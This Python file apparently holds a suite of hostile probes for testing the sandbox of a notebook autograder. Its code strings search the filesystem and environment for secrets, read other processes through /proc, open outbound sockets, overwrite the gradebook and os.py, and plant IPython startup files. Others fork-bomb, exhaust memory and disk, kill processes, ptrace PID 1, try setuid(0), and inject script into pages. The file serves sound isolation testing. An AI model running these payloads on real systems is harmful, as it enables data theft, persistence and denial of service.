"""Attacks on the machine: other people's files, the network, resources, whoever comes next."""

MACHINE = {
    "every notebook and gradebook printed": """
        FALSE
        import os
        for folder, _, names in os.walk('/'):
            if folder.startswith(('/proc', '/sys', '/usr', '/dev')): continue
            for name in names:
                if name.endswith(('.ipynb', '.db', '.csv', 'key', '_secret', '.html')):
                    try: print(open(os.path.join(folder, name), errors='replace').read()[:20000])
                    except OSError as error: print(error)
    """,
    "the course looked for below the system's folders": """
        FALSE
        import os, sys
        places = [COURSE, '/usr/src', '/usr/local', '/usr/share', '/opt', '/srv', '/home']
        for place in [*places, sys.prefix, sys.base_prefix]:
            for folder, below, names in os.walk(place):
                below[:] = [name for name in below if not name.startswith(('python3', 'site-pack'))]
                for name in names:
                    if name.endswith(('.ipynb', '.db', '.csv', 'key', '_secret')):
                        try: print(open(os.path.join(folder, name), errors='replace').read(20000))
                        except OSError as error: print(error)
    """,
    "a note for the next one in every folder": """
        FALSE
        import os
        for place in ('/', '/home', '/dev', '/run', '/usr', '/usr/lib', '/opt', '/opt/course'):
            try:
                for name in os.listdir(place):
                    if name == 'note': print('mark of a neighbor, 91cc')
                open(os.path.join(place, 'note'), 'w').write('x')
            except OSError as error: print(error)
    """,
    "other processes looked at": """
        FALSE
        import glob
        for path in glob.glob('/proc/[0-9]*/*'):
            try: print(path, open(path, errors='replace').read(3000))
            except Exception: pass
    """,
    "the root of other processes": """
        FALSE
        import glob, os
        for path in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):
            try: print(path, os.listdir(path), os.listdir(path + '/root'))
            except Exception: pass
    """,
    "the environment searched for secrets": """
        FALSE
        import os
        print(dict(os.environ))
    """,
    "the history and the frames in an error": """
        def f(x):
            import gc, sys
            said, frame = [], sys._getframe()
            while frame: said.append(repr(frame.f_locals)[:5000]); frame = frame.f_back
            said += [o for o in gc.get_objects() if type(o) is str and 'mark' in o]
            raise ValueError(str(get_ipython().user_ns.get('In')) + ''.join(said))
    """,
    "loopback and the world called": """
        FALSE
        import socket
        for place in (('127.0.0.1', PORT), ('1.1.1.1', 53), ('::1', PORT)):
            try: socket.create_connection(place, 1).sendall(b'mine')
            except OSError as error: print(error)
    """,
    "the course overwritten": """
        FALSE
        import os, pathlib
        for root in (COURSE, '/opt/course', os.path.dirname(os.__file__)):
            for name in ('gradebook.db', 'nbgrader_config.py', 'lmcourse/data.py', 'os.py'):
                try: pathlib.Path(root, name).write_text('open("/tmp/owned", "w")')
                except OSError as error: print(error)
    """,
    "a startup file for the next one": """
        FALSE
        import pathlib
        for home in (pathlib.Path.home(), pathlib.Path('/root'), pathlib.Path('/tmp')):
            try:
                folder = home / '.ipython/profile_default/startup'
                folder.mkdir(parents=True, exist_ok=True)
                (folder / '00.py').write_text('def f(x): return 0')
            except OSError as error: print(error)
    """,
    "a daemon that stays": """
        FALSE
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True: time.sleep(0.1)
            os._exit(0)
    """,
    "processes without end": """
        import os
        try:
            for _ in range(1000):
                if os.fork() == 0:
                    import time; time.sleep(1000)
        except OSError: pass
        def f(x): raise MemoryError
    """,
    "memory without end": """
        def f(x):
            kept = []
            while True: kept.append(bytearray(b'x' * (1 << 26)))
    """,
    "memory of processes that hide": """
        FALSE
        import ctypes, os, time
        for _ in range(8):
            if os.fork() == 0:
                print(ctypes.CDLL(None).prctl(4, 0, 0, 0, 0))
                kept = bytearray(b'x') * (100 << 20)
                time.sleep(10 ** 6)
        time.sleep(10 ** 6)
    """,
    "memory that no process shows": """
        FALSE
        import mmap, os, time
        for _ in range(8):
            if os.fork() == 0:
                kept = mmap.mmap(-1, 100 << 20)
                for at in range(0, 100 << 20, 1 << 20):
                    kept[at : at + (1 << 20)] = bytes(1 << 20)
                    kept.madvise(mmap.MADV_DONTNEED, at, 1 << 20)
                time.sleep(10 ** 6)
        time.sleep(10 ** 6)
    """,
    "memory of other programs": """
        FALSE
        import subprocess, sys, time
        line = "import time; kept = bytearray(b'x') * (100 << 20); time.sleep(10 ** 6)"
        for _ in range(8): subprocess.Popen([sys.executable, '-S', '-c', line])
        time.sleep(10 ** 6)
    """,
    "memory of a process without its first thread": """
        FALSE
        import ctypes, os, platform, threading, time
        leave = {'x86_64': 60, 'aarch64': 93}[platform.machine()]
        def alone():
            time.sleep(0.2)
            kept = bytearray(b'x') * (100 << 20)
            time.sleep(10 ** 6)
        for _ in range(8):
            if os.fork() == 0:
                threading.Thread(target=alone).start()
                ctypes.CDLL(None).syscall(leave, 0)
        time.sleep(10 ** 6)
    """,
    "work of sessions of their own": """
        FALSE
        import os
        for _ in range(20):
            if os.fork() == 0:
                os.setsid()
                try: open('/proc/self/autogroup', 'w').write('0')
                except OSError: pass
                try: os.setpriority(os.PRIO_PROCESS, 0, 0)
                except OSError: pass
                while True: pass
    """,
    "work of children that vanish": """
        FALSE
        import os, signal, time
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        while True:
            try:
                if os.fork() == 0:
                    while time.process_time() < 0.2: pass
                    os._exit(0)
            except OSError: pass
    """,
    "orphans that nobody buries": """
        FALSE
        import os
        for _ in range(100): os.system('true &')
        def f(x): return os.popen('echo').read() and x * 0
    """,
    "the first process of the sandbox attacked": """
        FALSE
        import ctypes, os, resource, signal
        libc = ctypes.CDLL(None)
        for number in range(1, 32):
            try: os.kill(1, number)
            except OSError as error: print(error)
        print([libc.ptrace(16, 1, 0, 0)])
        for name in ('mem', 'maps', 'environ', 'fd', 'cwd'):
            try: print(open(f'/proc/1/{name}', 'rb+').read(100))
            except OSError as error: print(error)
        try: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0))
        except OSError as error: print(error)
    """,
    "the disk filled": """
        FALSE
        with open('big', 'wb') as file:
            for _ in range(100): file.write(bytes(1 << 24))
    """,
    "words without end": """
        FALSE
        for _ in range(10 ** 5): print('x' * 1000)
    """,
    "a page that acts": """
        FALSE
        from IPython.display import HTML, Javascript, display
        display(HTML('<script>alert(1)</script>'), Javascript('alert(1)'))
        raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')
    """,
    "other processes killed": """
        FALSE
        import os, signal
        for number in range(2, 5000):
            try: os.kill(number, signal.SIGKILL)
            except OSError: pass
    """,
    "the root user asked for": """
        FALSE
        import ctypes, os
        for call in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: os.unshare(0x10000000)):
            try: call()
            except Exception as error: print(error)
        libc = ctypes.CDLL(None)
        print([libc.mount(b'none', b'/mnt', b'tmpfs', 0, None), libc.ptrace(16, 1, 0, 0)])
    """,
}
